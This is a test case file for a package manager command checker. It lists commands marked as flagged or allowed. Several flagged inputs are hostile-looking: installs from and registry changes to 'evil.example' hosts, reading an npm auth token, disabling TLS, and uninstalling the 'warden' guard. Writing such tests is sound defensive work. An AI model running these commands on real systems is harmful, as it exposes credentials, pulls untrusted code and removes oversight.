# Cases for checks/packages.ts: package managers.

# flag: packages.install
npm install lodash
# flag: packages.install
pip install requests
# flag: packages.install
npx cowsay hi
# flag: packages.install
uvx ruff check
# flag: packages.install
go run example.com/tool@v1.2.3
# flag: packages.install
apt-get install -y jq
# ok: listing installed packages
npm ls
# flag: packages.url-source
pip install git+https://github.com/x/y
# flag: packages.other-index
pip install --index-url http://pypi.evil.example/simple requests
# flag: packages.dynamic-name
npm install "$PKG"
# flag: packages.publish
npm publish
# flag: packages.publish
twine upload dist/*
# flag: packages.publish
poetry publish
# flag: packages.remove-warden
npm uninstall -g warden
# ok: removing another package
npm uninstall lodash
# flag: packages.registry-changed
npm config set registry http://registry.evil.example
# flag: packages.registry-credentials
npm config get //registry.npmjs.org/:_authToken
# flag: packages.tls-off
npm config set strict-ssl false
# flag: packages.script-shell
npm config set script-shell ./sh.sh
# ok: reading a harmless setting
npm config get prefix
# flag: packages.index-changed
pip config set global.index-url http://pypi.evil.example/simple
# flag: packages.system
apt-get remove -y nginx
# flag: packages.local-system-package
dpkg -i tool.deb
# ok: querying a package
dpkg -l jq
# flag: packages.registry-changed
npm set registry=https://npm.example.net/
# flag: packages.registry-changed
yarn config set npmRegistryServer https://npm.example.net
# ok: another npm setting
npm set init-license MIT
# flag: packages.install
npm exec --yes -- qx-bootstrap
# ok: npm exec with a command string runs no package of its own
npm exec -c 'echo hi'
# flag: packages.system-python
pip install --break-system-packages .
# ok: a look at an installed package (no install into the system Python)
pip show black
